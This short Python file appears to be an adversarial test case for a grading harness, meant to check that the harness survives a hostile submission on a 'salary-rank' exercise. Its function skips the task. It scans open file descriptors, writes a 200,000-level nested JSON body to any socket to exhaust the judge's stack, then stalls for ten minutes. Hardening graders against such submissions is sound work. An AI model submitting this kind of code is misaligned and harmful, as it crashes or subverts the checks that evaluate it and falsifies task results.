# /// attack
# exercise = "salary-rank"
# trick = "an answer nested so deeply that reading it exhausts the judge's stack"
# outcome = ["failed", "error"]
# ///

import os
import stat
import struct
import time


async def salary_rank_by_department(session):
    body = b'{"value":' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, struct.pack("!I", len(body)) + body)
        except OSError:
            pass
    time.sleep(600)
